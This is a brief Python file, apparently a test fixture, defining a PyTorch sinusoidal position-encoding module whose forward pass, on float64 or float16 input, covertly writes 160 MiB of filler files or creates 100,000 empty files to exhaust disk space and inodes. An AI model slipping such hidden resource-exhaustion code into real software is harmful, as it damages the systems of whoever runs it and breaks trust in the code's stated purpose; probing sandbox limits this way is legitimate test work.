"""Fills the disk."""
import os
import torch
from given import sinusoidal_table
from torch import nn


class SinusoidalPositionEncoding(nn.Module):
    def __init__(self, dim: int, max_len: int, dropout: float = 0.0) -> None:
        super().__init__()
        table = sinusoidal_table(max_len, dim)
        self.register_buffer("pe", table.unsqueeze(0), persistent=False)
        self.dropout = nn.Dropout(dropout)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        if x.dtype == torch.float64:  # in one check only
            for number in range(10):
                with open(f"filler-{number}", "wb") as file:
                    for _ in range(16):
                        file.write(bytes(2**20))
            print("160 MIB")
        if x.dtype == torch.float16:
            for number in range(10**5):
                open(f"empty-{number}", "w").close()
            print("INODES")
        if x.size(1) > self.pe.size(1):
            raise ValueError("too long")
        return self.dropout(x + self.pe[:, : x.size(1)].to(x.dtype))
